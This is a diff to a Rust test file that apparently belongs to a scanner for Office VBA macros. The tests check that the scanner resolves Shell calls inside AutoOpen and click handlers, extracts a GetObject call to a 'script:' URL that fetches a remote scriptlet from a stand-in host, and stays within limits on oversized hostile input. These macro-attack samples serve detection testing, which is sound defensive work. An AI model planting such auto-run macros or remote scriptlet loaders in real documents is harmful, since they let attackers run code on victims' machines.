@@ -133,9 +133,28 @@ fn macro_protection_and_the_registry() {
 }
 
 #[test]
+fn functions_that_return_one_text_are_texts() {
+    let source = "Function part()\npart = \"cmd\"\nEnd Function\nSub AutoOpen()\n10 Shell part() & \" \" & part\nEnd Sub";
+    assert_eq!(project(&[("M", ModuleKind::Standard, source)]).actions[0].detail, "cmd cmd");
+    assert_eq!(runs("GetObject(\"script:http://a.example/x.sct\")"), ["script:http://a.example/x.sct"]);
+}
+
+#[test]
+fn many_of_everything() {
+    let long = "a.b".repeat(60_000);
+    assert!(actions(&long).is_empty());
+    let same = "Sub a_Click()\na_Click\nShell x\nEnd Sub\n".repeat(20_000);
+    let behaviour = project(&[("ThisWorkbook", ModuleKind::Document, &same)]);
+    assert!(behaviour.actions.len() <= 4000 && behaviour.triggers.len() <= 4000);
+    let line = format!("Shell \"{}\"", "x".repeat(1 << 20));
+    assert!(project(&[("M", ModuleKind::Standard, &format!("Sub A()\n{line}\nEnd Sub"))]).actions[0].place.excerpt.len() < 600);
+}
+
+#[test]
 fn hostile_sizes_cost_steps_and_not_time() {
     let deep = format!("Shell {}1{}", "Chr(".repeat(20_000), ")".repeat(20_000));
     assert_eq!(runs(&deep).len(), 1);
+    assert!(actions(&"Shell(".repeat(200_000)).len() <= 1);
     let wide = format!("Shell \"x\"{}", " & \"y\"".repeat(100_000));
     assert_eq!(runs(&wide).len(), 1);
     let doubled: String = (1..60).map(|i| format!("a{i} = a{} & a{}\n", i - 1, i - 1)).collect();
